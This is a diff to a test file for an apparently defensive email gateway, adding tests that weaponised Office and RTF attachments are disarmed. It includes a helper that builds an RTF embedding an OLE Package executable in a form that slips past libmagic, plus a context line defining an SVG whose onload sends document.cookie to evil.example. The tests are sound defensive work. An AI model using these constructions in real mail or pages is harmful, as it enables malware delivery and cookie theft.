@@ -17,11 +17,13 @@ problem at once, so a failing test says everything that is wrong with it.
 from __future__ import annotations
 
 import base64
+import binascii
 import email
 import itertools
 import re
 import smtplib
 import socket
+import struct
 import threading
 import time
 from pathlib import Path
@@ -525,6 +527,50 @@ def test_macro_documents_are_cleaned_and_polyglot_office_files_refused(gw: Gatew
     assert quarantined(gw.objects, blob), "the original is kept in quarantine"
     assert _wait(lambda: [e for e in gw.audit() if e.get("EventType") == "FileDisarmed"
                           and e.get("QueueId") == qid], 5.0), "no FileDisarmed audit event"
+
+
+@pytest.mark.parametrize("shape", ["package-under-word-charts", "fields-in-docprops"])
+def test_office_content_outside_its_usual_folder_is_disarmed(gw: GatewayProcess, raw_sink: RawSink,
+                                                             shape: str) -> None:
+    # Sixth attacker review: an OLE Package with a program in a document
+    # under word/charts/ (taken for a chart's data) and a DDEAUTO field in a
+    # main part under docProps/ (fields were looked for under word/ only)
+    # reached the agent in a .docx Word opens.
+    from tests import active_documents as docs
+    mail = Mail(f"office-{shape}")
+    if shape == "package-under-word-charts":
+        blob, markers = docs.docx_package_in_charts_folder(), [docs.EXE[:64]]
+    else:
+        blob, markers = docs.docx_main_part_in("docProps"), [b"DDEAUTO", b"INCLUDEPICTURE"]
+    qid = fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(DOCX_TYPE, blob, name="claim.docx")]),
+                                                    files=[blob], markers=markers, name="claim.docx"), refused=False)
+    assert quarantined(gw.objects, blob), "the original is kept in quarantine"
+    assert _wait(lambda: [e for e in gw.audit() if e.get("EventType") == "FileDisarmed"
+                          and e.get("QueueId") == qid], 5.0), "no FileDisarmed audit event"
+
+
+def _rtf_with_package(exe: bytes) -> bytes:
+    """An RTF that Word reads (its header only "{\\rt1", which libmagic does
+    not call RTF) with an embedded OLE Package holding ``exe``."""
+    from tests import active_documents as docs
+    native = docs.ole10native("payload.exe", exe)[4:]
+    ole1 = (struct.pack("<II", 0x501, 2) + struct.pack("<I", 8) + b"Package\x00" + struct.pack("<II", 0, 0)
+            + struct.pack("<I", len(native)) + native)
+    return (b"{\\rt1\\ansi Please see the claim.\\par {\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
+            + binascii.hexlify(ole1) + b"}}}")
+
+
+@pytest.mark.parametrize("ctype,name", [("application/msword", None), ("text/rtf", None),
+                                        ("application/rtf", "claim"), ("application/msword", "claim")])
+def test_an_rtf_named_by_its_declared_type_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink, ctype: str,
+                                                            name: str | None) -> None:
+    # Sixth attacker review: plain text to libmagic, without a name or an
+    # extension it passed as plain text; Outlook names it by its declared
+    # type (ATT00001.doc) and Word runs the package on a double click.
+    mail = Mail(f"rtf-{ctype}-{name}")
+    blob = _rtf_with_package(pe(mail.tag))
+    att = part(ctype, blob, name=name, disposition="attachment" if name else "inline")
+    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=[blob], markers=[b"objdata"]))
 
 
 SVG_BODY = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//evil.example/\'+document.cookie)"><rect/></svg>'
